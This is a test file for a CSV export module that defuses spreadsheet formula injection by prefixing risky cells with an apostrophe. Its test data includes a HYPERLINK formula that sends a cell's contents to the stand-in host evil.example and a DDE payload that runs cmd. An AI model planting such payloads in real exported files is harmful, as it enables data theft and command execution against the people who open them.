import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compressorRegistry, type Compressor } from '../plant/compressors.ts';
import { defaultRow } from '../plant/registry.ts';
import { defaultTolls } from '../plant/baseCase.ts';
import { engineAvailabilityCsv } from './availability.ts';
import { readCsv, writeCsv } from './engine.ts';
import { compressorsCsv } from './equipment.ts';
import { defuseCell, restoreDefusedText } from './formulaGuard.ts';
import { hourValueRows } from './testRows.ts';
import { tollsCsv } from './tolls.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Ver")';
/** Cells of an exported text (quotes undone by the reader). */
const cellsOf = (text: string): string[][] => {
  const r = readCsv(text.replace(/'(?=[=+\-@\t\r])/g, '\u2063')); // keep the apostrophe visible through the reader's restore
  if (!r.ok) return [];
  return [r.table.headers, ...r.table.rows.map((x) => x.cells)].map((row) => row.map((c) => c.replace(/\u2063/g, "'")));
};
/** A cell a spreadsheet would run as a formula. */
const isLiveFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]\d+(?:[.,]\d+)*$/.test(cell);

describe('formula injection in exports', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1', '\r=1', HYPERLINK])('text %j is written with a leading apostrophe', (text) => {
    expect(defuseCell(text)).toBe(`'${text}`);
    expect(restoreDefusedText(defuseCell(text))).toBe(text);
  });
  it.each(['-3,50', '-1.234,5', '+7', '-0.25', 'Compresor 1', "'apóstrofo", ''])('text %j is left as it is', (text) => {
    expect(defuseCell(text)).toBe(text);
  });
  it("text that already starts with an apostrophe and a formula sign keeps it through export and import", () => {
    expect(defuseCell("'=1")).toBe("''=1");
    expect(restoreDefusedText(defuseCell("'=1"))).toBe("'=1");
  });
  it('numbers, null and undefined are not text: unchanged (a negative number stays a number)', () => {
    expect(defuseCell(-3.5)).toBe(-3.5);
    expect(defuseCell(null)).toBeNull();
    expect(defuseCell(undefined)).toBeUndefined();
  });
  it("a compressor named '=HYPERLINK(...)' is exported as text and imported back with the same name", () => {
    const rows: Compressor[] = [defaultRow(compressorRegistry, HYPERLINK), defaultRow(compressorRegistry, '-Compresor'), defaultRow(compressorRegistry, '@c')];
    const text = compressorsCsv.export(rows, undefined);
    const names = cellsOf(text).slice(1).map((r) => r[0]);
    expect(names).toEqual([`'${HYPERLINK}`, "'-Compresor", "'@c"]);
    const back = compressorsCsv.parse(text, undefined);
    expect(back.ok && back.data.map((r) => r.nombre)).toEqual([HYPERLINK, '-Compresor', '@c']);
  });
  it('equipment names in grid headers are defused too, and the grid imports back', () => {
    const names = ['=cmd|" /C calc"!A0', 'Motor 2'] as const;
    const rows = hourValueRows(24).map((r) => ({ horizonte: r.horizonte, hora: r.hora, disponibilidad: { [names[0]]: 1 as const, [names[1]]: 0 as const } }));
    const text = engineAvailabilityCsv.export(rows, { horizonHours: 24, names });
    expect(cellsOf(text)[0]).toEqual(['Horizonte', 'Hora', `'${names[0]}`, 'Motor 2']);
    const back = engineAvailabilityCsv.parse(text, { horizonHours: 24, names, rows });
    expect(back.ok && back.data[0]?.disponibilidad).toEqual({ [names[0]]: 1, 'Motor 2': 0 });
  });
  it('negative numbers are written as numbers, without an apostrophe', () => {
    const tolls = defaultTolls().map((t) => ({ ...t, ai_omie_abierto: -3.5 }));
    const line = cellsOf(tollsCsv.export(tolls, undefined))[1];
    expect(line).toContain('-3,50');
    expect(line?.some((c) => c.startsWith("'"))).toBe(false);
  });
  it('no exported text cell is ever a live formula, whatever the text (property)', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((p) => fc.string().map((s) => p + s)), fc.double({ min: -1e15, max: 1e15, noNaN: true })), { minLength: 1, maxLength: 6 }), (cells) => {
      const text = writeCsv(cells.map((_, i) => `c${i}`), [cells]);
      const written = cellsOf(text)[1] ?? [];
      for (const c of written) expect(isLiveFormula(c), JSON.stringify(c)).toBe(false);
      const back = readCsv(text);
      if (back.ok && back.table.rows.length > 0) {
        cells.forEach((c, i) => { if (typeof c === 'string' && !/[\r\n]/.test(c)) expect(back.table.rows[0]?.cells[i] ?? '').toBe(c); });
      }
    }), { numRuns: Number(process.env.RUNS ?? 300) });
  });
});
